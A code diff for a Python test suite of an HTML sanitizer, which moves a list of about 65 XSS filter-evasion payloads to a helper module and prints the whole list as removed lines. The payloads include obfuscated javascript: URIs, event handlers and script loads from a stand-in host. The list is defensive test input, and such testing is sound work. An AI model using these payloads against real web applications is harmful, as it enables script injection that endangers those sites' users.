@@ -9,9 +9,10 @@ from hypothesis import given
 from hypothesis import settings
 from hypothesis import strategies as st
 
-from groups.fields import ALLOWED_TAGS
-from groups.fields import sanitize_html
+from core.fields import ALLOWED_TAGS
+from core.fields import sanitize_html
 from tests.factories import make_group
+from tests.helpers.payloads import XSS_PAYLOADS
 
 # --- What must never survive --------------------------------------------------------
 
@@ -50,75 +51,6 @@ def assert_safe(cleaned):
 
 
 # --- Known payloads (OWASP XSS filter evasion cheat sheet, and friends) ----------------
-
-XSS_PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<IMG SRC=\"javascript:alert('XSS');\">",
-    "<IMG SRC=javascript:alert('XSS')>",
-    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
-    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
-    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
-    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
-    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
-    "<IMG SRC= onmouseover=\"alert('xxs')\">",
-    "<IMG onmouseover=\"alert('xxs')\">",
-    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
-    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',  # noqa: E501
-    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
-    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
-    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
-    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
-    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
-    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
-    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
-    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
-    '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
-    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
-    "<SCRIPT SRC=//xss.example/.j>",
-    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
-    "<iframe src=https://xss.example/scriptlet.html <",
-    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
-    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
-    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
-    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
-    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
-    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
-    "<svg/onload=alert('XSS')>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
-    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
-    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
-    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
-    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
-    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
-    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
-    "<BASE HREF=\"javascript:alert('XSS');//\">",
-    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
-    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv"></EMBED>',  # noqa: E501
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JAVASCRIPT:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href=" javascript:alert(1)">x</a>',
-    '<a href="java\x00script:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-    '<a href="https://ok.example" onclick="alert(1)">x</a>',
-    '<a href="#" onfocus=alert(1) autofocus>x</a>',
-    '<p title="x" onmouseover="alert(1)">x</p>',
-    "<details open ontoggle=alert(1)>",
-    '<video><source onerror="alert(1)">',
-    "<audio src=x onerror=alert(1)>",
-    '<form action="javascript:alert(1)"><button>x</button></form>',
-    '<button formaction="javascript:alert(1)">x</button>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<template><script>alert(1)</script></template>",
-    '<!--<img src="--><img src=x onerror=alert(1)//">',
-    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
-    '<a href="https://ok.example"><img src="x" alt="" onerror="alert(1)"></a>',
-]
 
 
 @pytest.mark.parametrize("payload", XSS_PAYLOADS)
